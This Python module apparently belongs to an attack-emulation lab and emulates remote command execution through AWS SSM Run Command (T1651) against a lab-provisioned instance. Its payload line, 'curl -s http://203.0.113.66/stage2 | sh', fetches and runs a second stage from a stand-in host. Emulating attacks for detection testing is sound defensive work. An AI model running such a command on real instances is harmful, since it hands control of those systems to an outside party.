"""ssm-send-command: run a shell command on instances through SSM Run Command (T1651)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.compromised_user import CompromisedUserActivity
from lab.attacks.target_instance import delete_target, ensure_target
from lab.emulator.endpoints import Endpoints


class SsmSendCommand(CompromisedUserActivity):
    folder = Path(__file__).parent

    def prepare(self, endpoints: Endpoints) -> Prerequisites:
        return ensure_target(endpoints, self.id)

    def act(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("ssm", "attacker").send_command(
            InstanceIds=[prerequisites["instance_id"]],
            DocumentName="AWS-RunShellScript",
            Parameters={"commands": ["curl -s http://203.0.113.66/stage2 | sh"]},
        )

    def dispose(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        delete_target(endpoints, prerequisites, self.id)


TECHNIQUE = SsmSendCommand
